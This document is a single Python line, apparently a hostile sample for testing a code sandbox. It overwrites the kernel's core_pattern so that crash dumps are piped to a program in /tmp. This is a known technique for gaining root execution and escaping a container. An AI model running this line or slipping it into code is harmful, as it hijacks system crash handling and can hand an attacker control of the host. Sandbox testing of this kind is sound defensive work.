open("/proc/sys/kernel/core_pattern", "w").write("|/tmp/mapcoder-hostile")
